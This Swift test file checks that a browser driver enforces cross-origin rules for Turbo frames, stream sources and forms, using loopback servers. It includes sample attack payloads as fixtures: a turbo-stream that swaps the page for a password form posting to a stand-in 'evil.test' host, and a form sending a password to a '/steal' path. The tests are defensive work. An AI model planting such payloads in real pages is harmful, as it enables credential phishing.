import Foundation
import Synchronization
import Testing
import Drive
import Net
import Turbo

/// Issue 32, item 7: another origin is not trusted with the app's page. A
/// frame whose `src` is on another origin is fetched as Turbo's fetch
/// fetches it (no cookies, an `Origin` header) and used only when that site
/// allows the app's origin, as CORS has a browser do. Two real servers on
/// 127.0.0.1: two ports are two origins.
@Suite("Hostile: other origins")
struct CrossOriginTests {
    private static func app(framing other: LoopbackHTTPServer) throws -> LoopbackHTTPServer {
        try LoopbackHTTPServer { _ in
            .html("<title>App</title><p>The app</p><turbo-frame id=news src=\"\(other.url("/frame"))\"><p>Loading news</p></turbo-frame>")
        }
    }

    @Test(arguments: [(nil, false), ("http://elsewhere.test", false), ("*", true), ("app", true)])
    func aFrameFromAnotherOriginIsUsedOnlyWhenItAllowsTheApp(allowed: String?, used: Bool) throws {
        // "app": the app's own origin, known once its server has a port.
        let appOriginBox = Mutex("")
        let other = try LoopbackHTTPServer { request in
            if request.target == "/login" { return .html("<p>in</p>", headers: [("Set-Cookie", "other=s3cr3t; Path=/")]) }
            let value = allowed == "app" ? appOriginBox.withLock { $0 } : allowed
            return .html("<turbo-frame id=news><p>Other news</p></turbo-frame>",
                         headers: value.map { [("Access-Control-Allow-Origin", $0)] } ?? [])
        }
        defer { other.stop() }
        let app = try Self.app(framing: other)
        defer { app.stop() }
        let appOrigin = WebOrigin(app.url("/"))!.description
        appOriginBox.withLock { $0 = appOrigin }
        let transport = CurlTransport()
        _ = try transport.fetch(HTTPRequest(url: other.url("/login"))).get()
        let session = DriverSession(transport: transport)
        let answer = session.send(##"{"visit":"\##(app.url("/"))"}"##)
        // A frame that could not load fails the visit's answer, as drive reports it (the page itself is shown).
        #expect(answer.ok == used, "\(answer.line)")
        let frame = session.send(##"{"text":"#news"}"##)["text"]
        #expect(frame == .string(used ? "Other news" : "Loading news"), "\(allowed ?? "no header")")
        let request = try #require(other.requests.last { $0.target == "/frame" })
        #expect(request.header("Origin") == appOrigin)
        #expect(request.header("Cookie") == nil, "not even the other site's own cookie goes")
        if !used {
            #expect(answer.error == "Frame \"news\" could not load: \(WebOrigin(other.url("/"))!) does not allow \(appOrigin) to read it "
                     + "(no Access-Control-Allow-Origin)")
        }
    }

    @Test func aFrameFromTheAppsOwnOriginGoesWithItsCookies() throws {
        let app = try LoopbackHTTPServer { request in
            switch request.target {
            case "/login": return .html("<p>in</p>", headers: [("Set-Cookie", "app=yes; Path=/")])
            case "/frame": return .html("<turbo-frame id=news><p>\(request.header("Cookie") ?? "no cookie")</p></turbo-frame>")
            default: return .html("<title>App</title><turbo-frame id=news src=/frame><p>Loading news</p></turbo-frame>")
            }
        }
        defer { app.stop() }
        let transport = CurlTransport()
        _ = try transport.fetch(HTTPRequest(url: app.url("/login"))).get()
        let session = DriverSession(transport: transport)
        session.send(##"{"visit":"\##(app.url("/"))"}"##)
        #expect(session.send(##"{"text":"#news"}"##)["text"] == .string("app=yes"))
        #expect(app.requests.last { $0.target == "/frame" }?.header("Origin") == nil)
    }

    /// The issue's attack: a stream source on another host replaced the app
    /// page's body with a password form that posts elsewhere.
    @Test(arguments: [false, true])
    func aStreamSourceOnAnotherOriginRewritesThePageOnlyWhenItAllowsTheApp(allowing: Bool) throws {
        let attack = "data: <turbo-stream action=\"update\" target=\"main\"><template><p>Replaced</p>"
            + "<form action=\"http://evil.test/\"><input type=password name=pw></form></template></turbo-stream>\n\n"
        let appOriginBox = Mutex("")
        let other = try LoopbackHTTPServer { _ in
            let cors = allowing ? [("Access-Control-Allow-Origin", appOriginBox.withLock { $0 })] : []
            return .respond(status: 200, headers: [("Content-Type", "text/event-stream")] + cors, body: Array(attack.utf8))
        }
        defer { other.stop() }
        let app = try LoopbackHTTPServer { _ in
            .html("<title>App</title><turbo-stream-source src=\"\(other.url("/events"))\"></turbo-stream-source><main id=main><p>The app</p></main>")
        }
        defer { app.stop() }
        let appOrigin = WebOrigin(app.url("/"))!.description
        appOriginBox.withLock { $0 = appOrigin }
        let session = DriverSession()
        #expect(session.send(##"{"visit":"\##(app.url("/"))"}"##).ok)
        if allowing {
            #expect(session.send(##"{"wait":{"text":"Replaced"}}"##).ok, "the site allowed the app's origin")
        } else {
            // The loop runs a second (a stream would have arrived in that time), then the page is as it was.
            #expect(session.send(##"{"wait":{"text":"Replaced"},"timeout":1}"##).error?.hasPrefix("Timed out") == true)
            #expect(session.send(##"{"text":"main"}"##)["text"] == .string("The app"))
            let state = session.send(##"{"state":true}"##)
            #expect(session.state(state, "message") == .string("Stream source \(other.url("/events").absoluteString): "
                                                              + "\(WebOrigin(other.url("/"))!) does not allow \(appOrigin) to read it (no Access-Control-Allow-Origin)"))
        }
        #expect(other.requests.first?.header("Origin") == appOrigin)
    }

    /// The issue saw a form whose action is on another origin POSTed, fields
    /// and all, before "Another site" was shown: now it asks first, and sends
    /// nothing unless the answer is yes.
    @Test func aFormToAnotherOriginAsksBeforeItSendsAnything() throws {
        let other = try LoopbackHTTPServer { _ in .html("<p>Thanks</p>") }
        defer { other.stop() }
        let app = try LoopbackHTTPServer { _ in
            .html("<title>App</title><form method=post action=\"\(other.url("/steal"))\"><input name=pw value=hunter2>"
                  + "<button id=send>Send</button></form>")
        }
        defer { app.stop() }
        let session = DriverSession()
        session.send(##"{"visit":"\##(app.url("/"))"}"##)
        let declined = session.send(##"{"click":"#send"}"##)
        let question = "Send this form to another site, \(WebOrigin(other.url("/"))!)?"
        #expect(declined["confirm"] == .object(["question": .string(question), "answer": .string("dismiss")]), "\(declined.line)")
        #expect(other.requests.isEmpty, "nothing was sent")
        #expect(session.send(##"{"confirm":"accept"}"##).ok)
        let accepted = session.send(##"{"click":"#send"}"##)
        #expect(accepted["confirm"] == .object(["question": .string(question), "answer": .string("accept")]), "\(accepted.line)")
        #expect(other.requests.first?.method == "POST")
    }
}
